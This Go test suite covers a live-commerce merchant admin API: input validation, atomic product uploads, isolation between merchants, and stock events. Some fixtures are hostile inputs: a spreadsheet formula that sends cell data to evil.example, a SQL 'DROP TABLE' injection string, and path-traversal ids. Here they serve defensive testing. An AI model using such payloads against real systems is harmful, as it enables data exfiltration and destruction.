package httpapi_test

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"livecommerce/internal/stock"
	"livecommerce/origin/origintest"
)

// row is a product row with every field optional, so a test can leave
// any of them out.
type row map[string]any

func goodRow(sku string) row {
	return row{"sku": sku, "name": "Product " + sku, "price": 1999, "currency": "JPY", "stock": 10, "per_buyer_limit": 5, "low_stock_threshold": 2}
}

func (r row) with(kv ...any) row {
	out := row{}
	for k, v := range r {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		out[kv[i].(string)] = kv[i+1]
	}
	return out
}

func (r row) without(fields ...string) row {
	out := r.with()
	for _, f := range fields {
		delete(out, f)
	}
	return out
}

type rowError struct {
	Row    int    `json:"row"`
	Field  string `json:"field"`
	Reason string `json:"reason"`
}

// wantRowErrors checks a refused upload names exactly the (row, field)
// pairs in want, each with a reason.
func wantRowErrors(t *testing.T, r origintest.Response, want ...rowError) {
	t.Helper()
	b := wantError(t, r, 400, "invalid_request")
	var got []rowError
	if len(b.Error.Details) == 0 || json.Unmarshal(b.Error.Details, &got) != nil {
		t.Errorf("error.details: got %s, want per-row errors %v", b.Error.Details, want)
		return
	}
	type key struct {
		row   int
		field string
	}
	var g, w []key
	for _, e := range got {
		g = append(g, key{e.Row, e.Field})
		if e.Reason == "" {
			t.Errorf("row error %+v: got no reason", e)
		}
	}
	for _, e := range want {
		w = append(w, key{e.Row, e.Field})
	}
	cmp := func(a, b key) int {
		if a.row != b.row {
			return a.row - b.row
		}
		return strings.Compare(a.field, b.field)
	}
	slices.SortFunc(g, cmp)
	slices.SortFunc(w, cmp)
	if !slices.Equal(g, w) {
		t.Errorf("row errors: got %v, want %v", got, w)
	}
}

type liveRow struct {
	Title      string
	Merchant   string
	Start, End sql.NullTime
}

func readLive(t *testing.T, e *origintest.Env, id string) (liveRow, bool) {
	t.Helper()
	var l liveRow
	err := e.DB.QueryRow("SELECT title, merchant_id, sale_starts_at, sale_ends_at FROM lives WHERE id = ?", id).Scan(&l.Title, &l.Merchant, &l.Start, &l.End)
	if err == sql.ErrNoRows {
		return l, false
	}
	if err != nil {
		t.Fatalf("live %s: %v", id, err)
	}
	return l, true
}

func productCount(t *testing.T, e *origintest.Env) int {
	t.Helper()
	var n int
	if err := e.DB.QueryRow("SELECT COUNT(*) FROM products").Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestAdminPutLive(t *testing.T) {
	t.Parallel()
	e := start(t, nil)
	put := func(t *testing.T, id, body string) origintest.Response {
		t.Helper()
		return admin(t, e, e.Key, "PUT", "/admin/v1/lives/"+id, []byte(body))
	}

	t.Run("create then update", func(t *testing.T) {
		r := put(t, "L1", `{"title":"Spring sale","sale_starts_at":"2030-01-01T09:00:00+09:00","sale_ends_at":"2030-01-02T00:00:00Z"}`)
		if r.Status != 201 {
			t.Fatalf("create: got %d %s, want 201", r.Status, r.Body)
		}
		var v struct {
			LiveID       string  `json:"live_id"`
			Title        string  `json:"title"`
			SaleStartsAt *string `json:"sale_starts_at"`
			SaleEndsAt   *string `json:"sale_ends_at"`
		}
		if err := json.Unmarshal(r.Body, &v); err != nil {
			t.Fatalf("body %s: %v", r.Body, err)
		}
		if v.LiveID != "L1" || v.Title != "Spring sale" || v.SaleStartsAt == nil || *v.SaleStartsAt != "2030-01-01T00:00:00Z" ||
			v.SaleEndsAt == nil || *v.SaleEndsAt != "2030-01-02T00:00:00Z" {
			t.Errorf("created live: got %s, want L1 \"Spring sale\" from 2030-01-01T00:00:00Z (in UTC) to 2030-01-02T00:00:00Z", r.Body)
		}
		r = put(t, "L1", `{"title":"Spring sale, day 2"}`)
		if r.Status != 200 {
			t.Fatalf("update: got %d %s, want 200", r.Status, r.Body)
		}
		l, _ := readLive(t, e, "L1")
		if l.Title != "Spring sale, day 2" || l.Start.Valid || l.End.Valid {
			t.Errorf("updated live: got %+v, want the new title and no window", l)
		}
		if title := "日本語のタイトル 🎉 " + strings.Repeat("x", 180); put(t, "L1", fmt.Sprintf(`{"title":%q}`, title)).Status != 200 {
			t.Errorf("title of 200 characters (multi-byte): got refused, want accepted")
		}
	})

	t.Run("invalid lives", func(t *testing.T) {
		if r := put(t, "KEEP", `{"title":"Kept","sale_starts_at":"2030-01-01T00:00:00Z"}`); r.Status != 201 {
			t.Fatalf("create: got %d %s, want 201", r.Status, r.Body)
		}
		tests := []struct{ name, body string }{
			{"no title", `{}`},
			{"title null", `{"title":null}`},
			{"title empty", `{"title":""}`},
			{"title spaces", `{"title":"   "}`},
			{"title padded", `{"title":" Sale "}`},
			{"title 201 chars", fmt.Sprintf(`{"title":%q}`, strings.Repeat("é", 201))},
			{"title with newline", `{"title":"a\nb"}`},
			{"title with NUL", `{"title":"a\u0000b"}`},
			{"title with bell", `{"title":"a\u0007b"}`},
			{"title number", `{"title":5}`},
			{"start not a time", `{"title":"T","sale_starts_at":"tomorrow"}`},
			{"start date only", `{"title":"T","sale_starts_at":"2030-01-01"}`},
			{"start without zone", `{"title":"T","sale_starts_at":"2030-01-01T00:00:00"}`},
			{"start unix seconds", `{"title":"T","sale_starts_at":1893456000}`},
			{"start in 1999", `{"title":"T","sale_starts_at":"1999-12-31T23:59:59Z"}`},
			{"end not a time", `{"title":"T","sale_ends_at":"2030-13-01T00:00:00Z"}`},
			{"ends before starts", `{"title":"T","sale_starts_at":"2030-01-02T00:00:00Z","sale_ends_at":"2030-01-01T00:00:00Z"}`},
			{"ends when it starts", `{"title":"T","sale_starts_at":"2030-01-01T00:00:00Z","sale_ends_at":"2030-01-01T00:00:00Z"}`},
			{"ends before starts across zones", `{"title":"T","sale_starts_at":"2030-01-01T08:00:00+09:00","sale_ends_at":"2029-12-31T22:00:00Z"}`},
			{"not JSON", `title=T`},
			{"array", `[{"title":"T"}]`},
			{"trailing garbage", `{"title":"T"}x`},
			{"trailing closing brace", `{"title":"T"}}`},
			{"two objects", `{"title":"T"}{"title":"U"}`},
		}
		for i, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				kept, _ := readLive(t, e, "KEEP")
				newID := fmt.Sprintf("NEW%d", i)
				for _, id := range []string{"KEEP", newID} {
					r := put(t, id, tt.body)
					wantError(t, r, 400, "invalid_request")
					if got, _ := readLive(t, e, "KEEP"); got != kept {
						t.Errorf("KEEP after a refused update: got %+v, want %+v", got, kept)
					}
					if _, ok := readLive(t, e, newID); ok {
						t.Errorf("%s: created by a refused request", newID)
					}
				}
			})
		}
	})

	t.Run("invalid live ids", func(t *testing.T) {
		for _, id := range []string{"a.b", strings.Repeat("L", 65), "%C3%A9", "a%20b", "..%2Fx"} {
			r := put(t, id, `{"title":"T"}`)
			wantError(t, r, 400, "invalid_request")
		}
	})
}

func TestAdminOtherMerchant(t *testing.T) {
	t.Parallel()
	e := start(t, nil)
	e.SetUpLive("ALIVE", `{"title":"A's live","sale_starts_at":"2020-01-01T00:00:00Z"}`,
		origintest.Product{SKU: "A1", Stock: 10, PerBuyerLimit: 5})
	_, keyB, err := e.Server.Deps().DB.CreateMerchant(context.Background(), "Shop B", time.Now().UTC())
	if err != nil {
		t.Fatal(err)
	}
	if r := admin(t, e, keyB, "PUT", "/admin/v1/lives/BLIVE", []byte(`{"title":"B's live"}`)); r.Status != 201 {
		t.Fatalf("B creates its live: got %d %s, want 201", r.Status, r.Body)
	}
	liveA, _ := readLive(t, e, "ALIVE")

	tests := []struct {
		name, path, body string
		wantStatus       int
	}{
		{"B updates A's live", "/admin/v1/lives/ALIVE", `{"title":"Taken over"}`, 404},
		{"B closes A's sale", "/admin/v1/lives/ALIVE", `{"title":"A's live","sale_ends_at":"2020-01-02T00:00:00Z"}`, 404},
		{"B uploads to A's live", "/admin/v1/lives/ALIVE/products", `[{"sku":"A1","name":"Mine now","price":1,"currency":"JPY","stock":0,"per_buyer_limit":1}]`, 404},
		{"B adds a product to A's live", "/admin/v1/lives/ALIVE/products", `[{"sku":"B9","name":"Planted","price":1,"currency":"JPY","stock":5,"per_buyer_limit":1}]`, 404},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := snapshot(t, e, "A1")
			products := productCount(t, e)
			r := admin(t, e, keyB, "PUT", tt.path, []byte(tt.body))
			wantError(t, r, tt.wantStatus, "not_found")
			wantUnchanged(t, e, before)
			if got, _ := readLive(t, e, "ALIVE"); got != liveA {
				t.Errorf("A's live: got %+v, want %+v", got, liveA)
			}
			if got := productCount(t, e); got != products {
				t.Errorf("products: got %d, want %d", got, products)
			}
		})
	}

	t.Run("B lists A's sku in its own live", func(t *testing.T) {
		before := snapshot(t, e, "A1")
		r := admin(t, e, keyB, "PUT", "/admin/v1/lives/BLIVE/products",
			[]byte(`[{"sku":"A1","name":"Stolen","price":1,"currency":"JPY","stock":0,"per_buyer_limit":1}]`))
		// Either answer keeps A's product A's; a per-row error tells B why.
		if r.Status == 404 {
			wantError(t, r, 404, "not_found")
		} else {
			wantRowErrors(t, r, rowError{Row: 1, Field: "sku"})
		}
		wantUnchanged(t, e, before)
		var name, live string
		e.DB.QueryRow("SELECT name, live_id FROM products WHERE sku = 'A1'").Scan(&name, &live)
		if name != "Product A1" || live != "ALIVE" {
			t.Errorf("A1: got %q in %s, want %q in ALIVE", name, live, "Product A1")
		}
	})

	t.Run("B reads A's report", func(t *testing.T) {
		wantCreated(t, buyQty(t, e, "buyer", uniqueID("k"), "A1", 1))
		r := admin(t, e, keyB, "GET", "/admin/v1/lives/ALIVE/report", nil)
		wantError(t, r, 404, "not_found")
		if strings.Contains(string(r.Body), "A1") {
			t.Errorf("404 body %s names A's sku", r.Body)
		}
	})

	t.Run("B adjusts the stock of A's product", func(t *testing.T) {
		for _, body := range []string{`{"delta":50,"reason":"restock"}`, `{"delta":-10,"reason":"sabotage"}`} {
			before := snapshot(t, e, "A1")
			adjustments := func() (n int) {
				t.Helper()
				if err := e.DB.QueryRow("SELECT COUNT(*) FROM stock_adjustments").Scan(&n); err != nil {
					t.Fatal(err)
				}
				return n
			}
			wantAdjustments := adjustments()
			r := admin(t, e, keyB, "POST", "/admin/v1/products/A1/stock-adjustments", []byte(body))
			wantError(t, r, 404, "not_found")
			wantUnchanged(t, e, before)
			if got := adjustments(); got != wantAdjustments {
				t.Errorf("stock adjustments: got %d, want %d (unchanged)", got, wantAdjustments)
			}
		}
	})

	t.Run("A still owns its live", func(t *testing.T) {
		if r := admin(t, e, e.Key, "PUT", "/admin/v1/lives/ALIVE", []byte(`{"title":"A's live, renamed"}`)); r.Status != 200 {
			t.Errorf("A updates its live: got %d %s, want 200", r.Status, r.Body)
		}
		wantCreated(t, buyQty(t, e, "buyer", uniqueID("k"), "A1", 1))
	})
}

func TestAdminProductRows(t *testing.T) {
	t.Parallel()
	e := start(t, nil)
	e.SetUpLive("L1", "", origintest.Product{SKU: "OLD", Stock: 10, PerBuyerLimit: 5})
	e.SetUpLive("L2", "", origintest.Product{SKU: "ELSEWHERE", Stock: 10, PerBuyerLimit: 5})

	tests := []struct {
		name string
		bad  row
		want []rowError // for row 3; row 1 (an update) and row 2 (a new sku) are fine
	}{
		{"duplicate sku", goodRow("NEW"), []rowError{{Row: 3, Field: "sku"}}},
		{"duplicate of an update", goodRow("OLD").with("stock", 20), []rowError{{Row: 3, Field: "sku"}}},
		{"sku missing", goodRow("X").without("sku"), []rowError{{Row: 3, Field: "sku"}}},
		{"sku invalid", goodRow("../x"), []rowError{{Row: 3, Field: "sku"}}},
		{"sku 65 chars", goodRow(strings.Repeat("S", 65)), []rowError{{Row: 3, Field: "sku"}}},
		{"sku of another live", goodRow("ELSEWHERE"), []rowError{{Row: 3, Field: "sku"}}},
		{"name missing", goodRow("X").without("name"), []rowError{{Row: 3, Field: "name"}}},
		{"name empty", goodRow("X").with("name", ""), []rowError{{Row: 3, Field: "name"}}},
		{"name padded", goodRow("X").with("name", " Mug "), []rowError{{Row: 3, Field: "name"}}},
		{"name 201 chars", goodRow("X").with("name", strings.Repeat("n", 201)), []rowError{{Row: 3, Field: "name"}}},
		{"name with newline", goodRow("X").with("name", "Mug\nCup"), []rowError{{Row: 3, Field: "name"}}},
		{"name with NUL", goodRow("X").with("name", "Mug\x00"), []rowError{{Row: 3, Field: "name"}}},
		{"price missing", goodRow("X").without("price"), []rowError{{Row: 3, Field: "price"}}},
		{"price negative", goodRow("X").with("price", -1), []rowError{{Row: 3, Field: "price"}}},
		{"price huge", goodRow("X").with("price", int64(1_000_000_000_001)), []rowError{{Row: 3, Field: "price"}}},
		{"currency missing", goodRow("X").without("currency"), []rowError{{Row: 3, Field: "currency"}}},
		{"currency lower case", goodRow("X").with("currency", "jpy"), []rowError{{Row: 3, Field: "currency"}}},
		{"currency too long", goodRow("X").with("currency", "EURO"), []rowError{{Row: 3, Field: "currency"}}},
		{"currency symbol", goodRow("X").with("currency", "¥"), []rowError{{Row: 3, Field: "currency"}}},
		{"stock missing", goodRow("X").without("stock"), []rowError{{Row: 3, Field: "stock"}}},
		{"stock negative", goodRow("X").with("stock", -5), []rowError{{Row: 3, Field: "stock"}}},
		{"stock huge", goodRow("X").with("stock", 100_000_001), []rowError{{Row: 3, Field: "stock"}}},
		{"stock beyond the column", goodRow("X").with("stock", int64(1)<<40), []rowError{{Row: 3, Field: "stock"}}},
		{"limit missing", goodRow("X").without("per_buyer_limit"), []rowError{{Row: 3, Field: "per_buyer_limit"}}},
		{"limit zero", goodRow("X").with("per_buyer_limit", 0), []rowError{{Row: 3, Field: "per_buyer_limit"}}},
		{"limit huge", goodRow("X").with("per_buyer_limit", 10_001), []rowError{{Row: 3, Field: "per_buyer_limit"}}},
		{"threshold negative", goodRow("X").with("low_stock_threshold", -1), []rowError{{Row: 3, Field: "low_stock_threshold"}}},
		{"several fields", row{"sku": "X"}, []rowError{{Row: 3, Field: "name"}, {Row: 3, Field: "price"}, {Row: 3, Field: "currency"}, {Row: 3, Field: "stock"}, {Row: 3, Field: "per_buyer_limit"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := snapshot(t, e, "OLD", "ELSEWHERE")
			products := productCount(t, e)
			r := putProducts(t, e, "L1", []row{goodRow("OLD").with("stock", 50, "name", "Renamed"), goodRow("NEW"), tt.bad})
			wantRowErrors(t, r, tt.want...)
			// All or nothing: neither the update of row 1 nor the new sku
			// of row 2 was applied.
			wantUnchanged(t, e, before)
			if got := productCount(t, e); got != products {
				t.Errorf("products: got %d, want %d (nothing applied)", got, products)
			}
			var name string
			e.DB.QueryRow("SELECT name FROM products WHERE sku = 'OLD'").Scan(&name)
			if name != "Product OLD" {
				t.Errorf("name of OLD: got %q, want it unchanged", name)
			}
		})
	}

	// A value of the wrong JSON type, or one no int64 holds, is as much a
	// bad row as a negative one: the contract answers every rejected
	// upload with per-row errors.
	t.Run("type errors are row errors too", func(t *testing.T) {
		for _, tt := range []struct{ name, body, field string }{
			{"stock beyond int64", `"stock":99999999999999999999`, "stock"},
			{"price beyond int64", `"price":1e30`, "price"},
			{"stock as a string", `"stock":"10"`, "stock"},
			{"price with decimals", `"price":19.99`, "price"},
		} {
			t.Run(tt.name, func(t *testing.T) {
				before := snapshot(t, e, "OLD")
				products := productCount(t, e)
				body := `[{"sku":"NEW","name":"N","price":1,"currency":"JPY","stock":1,"per_buyer_limit":1},` +
					`{"sku":"Y","name":"Y","currency":"JPY","per_buyer_limit":1,"price":1,"stock":1,` + tt.body + `}]`
				r := admin(t, e, e.Key, "PUT", "/admin/v1/lives/L1/products", []byte(body))
				wantRowErrors(t, r, rowError{Row: 2, Field: tt.field})
				wantUnchanged(t, e, before)
				if got := productCount(t, e); got != products {
					t.Errorf("products: got %d, want %d (nothing applied)", got, products)
				}
			})
		}
	})

	t.Run("malformed uploads", func(t *testing.T) {
		for _, tt := range []struct{ name, body string }{
			{"not JSON", `sku,name`},
			{"object", `{"sku":"NEW"}`},
			{"null", `null`},
			{"unknown field", `[{"sku":"NEW","name":"N","price":1,"currency":"JPY","stock":1,"per_buyer_limit":1,"colour":"red"}]`},
			{"trailing garbage", `[]x`},
			{"trailing closing bracket", `[{"sku":"NEW","name":"N","price":1,"currency":"JPY","stock":1,"per_buyer_limit":1}]]`},
			{"trailing closing brace", `[{"sku":"NEW","name":"N","price":1,"currency":"JPY","stock":1,"per_buyer_limit":1}]}`},
		} {
			t.Run(tt.name, func(t *testing.T) {
				products := productCount(t, e)
				r := admin(t, e, e.Key, "PUT", "/admin/v1/lives/L1/products", []byte(tt.body))
				wantError(t, r, 400, "invalid_request")
				if got := productCount(t, e); got != products {
					t.Errorf("products: got %d, want %d (nothing applied)", got, products)
				}
			})
		}
	})

	t.Run("unknown live", func(t *testing.T) {
		products := productCount(t, e)
		r := putProducts(t, e, "NOLIVE", []row{goodRow("NEW")})
		wantError(t, r, 404, "not_found")
		if got := productCount(t, e); got != products {
			t.Errorf("products: got %d, want %d", got, products)
		}
	})

	// Names a spreadsheet would run as formulas are refused
	// (TestFormulaTextIsRefused); everything else is text.
	t.Run("names are text, stored as sent", func(t *testing.T) {
		names := []string{
			`Tint =HYPERLINK("http://evil.example/?"&A1,"Click")`,
			`1+2=3`,
			`'quoted`,
			`"Best", cheap; <b>bold</b> & more`,
			`日本の茶碗 🍵`,
			`Robert'); DROP TABLE products;--`,
		}
		rows := make([]row, len(names))
		for i, n := range names {
			rows[i] = goodRow(fmt.Sprintf("TXT%d", i)).with("name", n)
		}
		if r := putProducts(t, e, "L1", rows); r.Status != 200 {
			t.Fatalf("upload: got %d %s, want 200", r.Status, r.Body)
		}
		for i, want := range names {
			var got string
			if err := e.DB.QueryRow("SELECT name FROM products WHERE sku = ?", fmt.Sprintf("TXT%d", i)).Scan(&got); err != nil {
				t.Fatal(err)
			}
			if got != want {
				t.Errorf("name of TXT%d: got %q, want %q unchanged", i, got, want)
			}
		}
	})

	t.Run("a good upload answers with what it applied", func(t *testing.T) {
		r := putProducts(t, e, "L1", []row{goodRow("OLD").with("stock", 12), goodRow("FRESH").without("low_stock_threshold")})
		if r.Status != 200 {
			t.Fatalf("upload: got %d %s, want 200", r.Status, r.Body)
		}
		var v struct {
			LiveID   string `json:"live_id"`
			Products []struct {
				SKU     string `json:"sku"`
				Stock   int64  `json:"stock"`
				Version int64  `json:"version"`
			} `json:"products"`
		}
		if err := json.Unmarshal(r.Body, &v); err != nil {
			t.Fatalf("body %s: %v", r.Body, err)
		}
		if v.LiveID != "L1" || len(v.Products) != 2 || v.Products[0].SKU != "OLD" || v.Products[0].Stock != 12 || v.Products[1].SKU != "FRESH" {
			t.Errorf("upload answer: got %s, want L1 with OLD (stock 12) and FRESH", r.Body)
		}
		if got := remaining(t, e, "OLD"); got != 12 {
			t.Errorf("Redis remaining of OLD: got %d, want 12", got)
		}
	})
}

func TestAdminStockChanges(t *testing.T) {
	t.Parallel()
	e := start(t, freshReads)
	live := uniqueID("L")
	e.SetUpLive(live, "", origintest.Product{SKU: "Y", Stock: 10, PerBuyerLimit: 10}, origintest.Product{SKU: "Z", Stock: 5, PerBuyerLimit: 5})
	wantCreated(t, buyQty(t, e, "alice", uniqueID("k"), "Y", 4))

	t.Run("lowering stock below sold is refused, nothing applied", func(t *testing.T) {
		before := snapshot(t, e, "Y", "Z")
		products := productCount(t, e)
		r := putProducts(t, e, live, []row{goodRow("Z").with("stock", 50), goodRow("Y").with("stock", 3), goodRow("NEW")})
		wantRowErrors(t, r, rowError{Row: 2, Field: "stock"})
		wantUnchanged(t, e, before)
		if got := productCount(t, e); got != products {
			t.Errorf("products: got %d, want %d", got, products)
		}
	})

	t.Run("lowering stock to what is sold sells out", func(t *testing.T) {
		if r := putProducts(t, e, live, []row{goodRow("Y").with("stock", 4, "per_buyer_limit", 10)}); r.Status != 200 {
			t.Fatalf("upload: got %d %s, want 200", r.Status, r.Body)
		}
		s, _ := readSKU(t, e, "Y")
		if s.Remaining != 0 || s.Status != "sold_out" {
			t.Errorf("Y: got %d %s, want 0 sold_out", s.Remaining, s.Status)
		}
		before := snapshot(t, e, "Y")
		wantError(t, buyQty(t, e, "bob", uniqueID("k"), "Y", 1), 409, "sold_out")
		wantUnchanged(t, e, before)
	})

	t.Run("raising stock makes the sku purchasable and publishes", func(t *testing.T) {
		nc, err := nats.Connect(origintest.NATSURL())
		if err != nil {
			t.Fatalf("nats: %v", err)
		}
		defer nc.Close()
		events := make(chan *nats.Msg, 16)
		sub, err := nc.ChanSubscribe(stock.Subject(live, "Y"), events)
		if err != nil {
			t.Fatal(err)
		}
		defer sub.Unsubscribe()
		if err := nc.Flush(); err != nil {
			t.Fatal(err)
		}
		old, _ := readSKU(t, e, "Y")

		if r := putProducts(t, e, live, []row{goodRow("Y").with("stock", 10, "per_buyer_limit", 10)}); r.Status != 200 {
			t.Fatalf("upload: got %d %s, want 200", r.Status, r.Body)
		}
		select {
		case m := <-events:
			ev, err := stock.DecodeEvent(m.Data)
			if err != nil {
				t.Fatalf("event %s: %v", m.Data, err)
			}
			if ev.Remaining != 6 || ev.Status != stock.InStock || ev.Version <= old.Version {
				t.Errorf("event: got %+v, want 6 remaining, in_stock, version above %d", ev.Level, old.Version)
			}
		case <-time.After(3 * time.Second):
			t.Errorf("no stock event on %s within 3s of raising the stock", stock.Subject(live, "Y"))
		}
		s, _ := readSKU(t, e, "Y")
		if s.Remaining != 6 || s.Version <= old.Version {
			t.Errorf("Y after restock: got %d remaining version %d, want 6 and a version above %d", s.Remaining, s.Version, old.Version)
		}
		wantCreated(t, buyQty(t, e, "bob", uniqueID("k"), "Y", 6))
		if st := snapshot(t, e, "Y").SKUs["Y"]; st.DBSold != 10 || st.OrderUnits != 10 {
			t.Errorf("Y in database: sold %d, order units %d, want 10 and 10", st.DBSold, st.OrderUnits)
		}
	})
}

// TestAdminStockAdjustmentAndReport covers the two merchant routes of the
// contract besides the upserts.
func TestAdminStockAdjustmentAndReport(t *testing.T) {
	t.Parallel()
	e := start(t, nil)
	e.SetUpLive("L1", "", origintest.Product{SKU: "A1", Stock: 5, PerBuyerLimit: 5, Price: 1000})
	wantCreated(t, buyQty(t, e, "alice", uniqueID("k"), "A1", 2))

	r := admin(t, e, e.Key, "POST", "/admin/v1/products/A1/stock-adjustments", []byte(`{"delta":50,"reason":"restock"}`))
	if r.Status/100 != 2 {
		t.Errorf("POST /admin/v1/products/A1/stock-adjustments: got %d %s, want 2xx (route of the contract's Merchants section)", r.Status, r.Body)
	} else {
		var stockNow int64
		e.DB.QueryRow("SELECT stock FROM products WHERE sku = 'A1'").Scan(&stockNow)
		if stockNow != 55 || remaining(t, e, "A1") != 53 {
			t.Errorf("after +50: got stock %d, Redis remaining %d, want 55 and 53", stockNow, remaining(t, e, "A1"))
		}
	}

	r = admin(t, e, e.Key, "GET", "/admin/v1/lives/L1/report", nil)
	if r.Status != 200 {
		t.Errorf("GET /admin/v1/lives/L1/report: got %d %s, want 200 (route of the contract's Merchants section)", r.Status, r.Body)
	} else if !json.Valid(r.Body) || !strings.Contains(string(r.Body), `"A1"`) {
		t.Errorf("report: got %s, want JSON naming A1", r.Body)
	}
}

// TestAdminListsOwnLives: GET /admin/v1/lives shows the calling merchant's
// lives only, newest first, with their product counts.
func TestAdminListsOwnLives(t *testing.T) {
	t.Parallel()
	e := start(t, nil)
	e.SetUpLive("OLD", `{"title":"First"}`, origintest.Product{SKU: "O1", Stock: 5, PerBuyerLimit: 1},
		origintest.Product{SKU: "O2", Stock: 5, PerBuyerLimit: 1})
	time.Sleep(5 * time.Millisecond) // created_at orders the list
	if r := admin(t, e, e.Key, "PUT", "/admin/v1/lives/NEW", []byte(`{"title":"Second","sale_starts_at":"2030-01-01T10:00:00Z"}`)); r.Status != 201 {
		t.Fatalf("NEW: %d %s", r.Status, r.Body)
	}
	_, keyB, err := e.Server.Deps().DB.CreateMerchant(context.Background(), "Shop B", time.Now().UTC())
	if err != nil {
		t.Fatal(err)
	}
	if r := admin(t, e, keyB, "PUT", "/admin/v1/lives/BLIVE", []byte(`{"title":"B's"}`)); r.Status != 201 {
		t.Fatalf("B's live: %d %s", r.Status, r.Body)
	}
	type live struct {
		LiveID       string     `json:"live_id"`
		Title        string     `json:"title"`
		SaleStartsAt *time.Time `json:"sale_starts_at"`
		Products     int        `json:"products"`
	}
	list := func(key string) []live {
		t.Helper()
		r := admin(t, e, key, "GET", "/admin/v1/lives", nil)
		if r.Status != 200 {
			t.Fatalf("GET /admin/v1/lives: %d %s", r.Status, r.Body)
		}
		if cc := r.Header.Get("Cache-Control"); !strings.Contains(cc, "no-store") {
			t.Errorf("Cache-Control %q, want no-store", cc)
		}
		var body struct{ Lives []live }
		if err := json.Unmarshal(r.Body, &body); err != nil {
			t.Fatal(err)
		}
		return body.Lives
	}
	a := list(e.Key)
	if len(a) != 2 || a[0].LiveID != "NEW" || a[1].LiveID != "OLD" {
		t.Fatalf("merchant A's lives: got %+v, want NEW then OLD", a)
	}
	if a[1].Products != 2 || a[0].Products != 0 || a[1].Title != "First" {
		t.Errorf("got %+v, want OLD with 2 products and NEW with none", a)
	}
	if a[0].SaleStartsAt == nil || !a[0].SaleStartsAt.Equal(time.Date(2030, 1, 1, 10, 0, 0, 0, time.UTC)) || a[1].SaleStartsAt != nil {
		t.Errorf("sale windows: got %v and %v", a[0].SaleStartsAt, a[1].SaleStartsAt)
	}
	if b := list(keyB); len(b) != 1 || b[0].LiveID != "BLIVE" {
		t.Errorf("merchant B's lives: got %+v, want only BLIVE", b)
	}
	if r := admin(t, e, "", "GET", "/admin/v1/lives", nil); r.Status != 401 {
		t.Errorf("without a key: got %d, want 401", r.Status)
	}
	if r := admin(t, e, e.Token("alice"), "GET", "/admin/v1/lives", nil); r.Status != 401 {
		t.Errorf("with a buyer token: got %d, want 401", r.Status)
	}
}

// TestNewProductReadsWithItsUpsertVersion: a sku created by an upsert is
// loaded into Redis as written, so its first read shows the version the
// upsert answered (no rebuild epoch), and it is on sale at once.
func TestNewProductReadsWithItsUpsertVersion(t *testing.T) {
	t.Parallel()
	e := start(t, nil)
	if r := admin(t, e, e.Key, "PUT", "/admin/v1/lives/NV", []byte(`{"title":"New"}`)); r.Status != 201 {
		t.Fatalf("live: %d %s", r.Status, r.Body)
	}
	r := putProducts(t, e, "NV", []map[string]any{{"sku": "NV1", "name": "N", "price": 100, "currency": "JPY",
		"stock": 3, "per_buyer_limit": 3, "low_stock_threshold": 1}})
	var up struct {
		Products []struct {
			SKU     string `json:"sku"`
			Version int64  `json:"version"`
		} `json:"products"`
	}
	if err := json.Unmarshal(r.Body, &up); err != nil || len(up.Products) != 1 {
		t.Fatalf("upsert: %d %s", r.Status, r.Body)
	}
	var level struct {
		Remaining int64  `json:"remaining"`
		Status    string `json:"status"`
		Version   int64  `json:"version"`
	}
	read := do(t, e, "GET", "/v1/products/NV1/stock", nil)
	if err := json.Unmarshal(read.Body, &level); err != nil {
		t.Fatalf("read: %d %s", read.Status, read.Body)
	}
	if level.Version != up.Products[0].Version || level.Remaining != 3 || level.Status != "in_stock" {
		t.Errorf("first read %+v, want version %d, 3 remaining, in_stock", level, up.Products[0].Version)
	}
	wantCreated(t, buyQty(t, e, "alice", uniqueID("k"), "NV1", 3))
	time.Sleep(300 * time.Millisecond) // past the micro-cache
	read = do(t, e, "GET", "/v1/products/NV1/stock", nil)
	json.Unmarshal(read.Body, &level)
	if level.Version != up.Products[0].Version+1 || level.Status != "sold_out" {
		t.Errorf("after selling out: %+v, want the next version, sold_out", level)
	}
}
